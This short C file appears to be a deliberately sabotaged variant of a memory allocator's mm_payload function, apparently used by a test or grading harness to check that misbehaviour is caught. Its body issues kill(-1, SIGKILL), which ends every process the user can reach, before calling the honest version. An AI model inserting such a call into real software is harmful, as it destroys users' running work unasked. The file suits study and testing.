// SPDX-License-Identifier: MIT
// Kills everybody: kill(-1).
//
// base: 05 reference
// replaces: mm_payload
// loses: payload_follows_header conversions_only_compute
// tells: made the system call kill

void *mm_payload(struct header *header)
{
    KERNEL_2(SYS_kill, -1, SIGKILL);
    return honest_mm_payload(header);
}
